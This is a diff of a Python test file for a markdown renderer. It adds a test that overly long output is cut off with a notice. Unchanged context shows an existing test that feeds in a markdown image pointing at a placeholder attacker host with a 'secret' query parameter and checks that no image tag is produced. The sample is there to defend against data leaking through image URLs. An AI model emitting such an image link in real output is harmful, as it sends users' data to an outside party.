@@ -26,6 +26,12 @@ def test_markdown_is_shown_without_its_sting(written: str, shown: str) -> None:
     assert render_markdown(written) == shown
 
 
+def test_what_is_too_long_to_read_at_once_is_cut_and_says_so() -> None:
+    html = render_markdown("word " * 20_000)
+    assert len(html) < 41_000
+    assert html.endswith("The API and Copy give the whole.</em></p>")
+
+
 def test_a_picture_becomes_a_link_that_loads_nothing() -> None:
     html = render_markdown("![chart](https://evil.example/?d=secret)")
     assert "<img" not in html
